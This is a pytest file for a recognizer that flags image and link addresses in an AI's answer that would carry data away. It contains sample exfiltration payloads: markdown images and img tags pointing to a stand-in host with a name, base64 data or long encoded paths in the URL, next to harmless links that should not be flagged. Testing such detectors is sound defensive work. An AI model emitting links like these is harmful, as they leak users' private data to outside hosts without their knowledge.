"""Addresses in an answer that would carry data away."""

from __future__ import annotations

import pytest

from detectors.recognizers.exfiltration import ExfiltrationLinkRecognizer
from tests.detectors.recognizers.finding import found, score, unnamed

LINKS = ExfiltrationLinkRecognizer()
DATA = "aGVsbG8gd29ybGQxMjM0NTY3ODkwYWJjZGVmZ2hpSktM"


@pytest.mark.parametrize(
    "around",
    ["![図]({})", "![]( {})".replace(" ", ""), '<img src="{}">', "<img alt='' src='{}'/>"],
    ids=unnamed,
)
@pytest.mark.parametrize(
    "url",
    [
        *(
            "https://e.example.com/p?q=Yamada+Taro",
            f"https://e.example.com/{DATA}.png",
            "http://e.example.com/?d=%E5%B1%B1",
        ),
        *(f"https://{'a1b2' * 10}.example.com/x", f"https://e.example.com/{'word/' * 40}"),
    ],
    ids=["query", "path", "escaped", "host", "long"],
)
def test_an_image_whose_address_carries_data_is_found_whole(around: str, url: str) -> None:
    (seen,) = found(LINKS, around.format(url), 0.9)
    assert url.startswith(seen) and len(seen) >= min(len(url), 200)


@pytest.mark.parametrize("around", ["[詳細]({})", '<a href="{}">', "[1]: {}"], ids=unnamed)
def test_a_link_that_carries_coded_data_is_less_sure(around: str) -> None:
    url = f"https://e.example.com/r/{DATA}"
    assert found(LINKS, around.format(url), 0.6) == [url]
    assert score(LINKS, around.format(url)) == 0.65


@pytest.mark.parametrize(
    "text",
    [
        *("![図](https://img.example.com/a.png?w=300&h=200)", "![図](/images/a.png?q=abc)"),
        *(
            "![庁舎](https://www.city.example.lg.jp/a.png?d=abcdefgh)",
            "[詳細](https://www.example.com/g?id=123)",
        ),
        *(
            "[検索](https://www.example.com/search?q=%E6%96%87%E4%BA%AC)",
            "https://www.example.com/?q=abcdefgh",
        ),
        *(
            "![図](data:image/png;base64,iVBORw0KGgo=)",
            "![版](https://img.example.com/badge/build-passing.svg)",
        ),
    ],
    ids=unnamed,
)
def test_ordinary_images_and_links_are_left_alone(text: str) -> None:
    assert score(LINKS, text) == 0
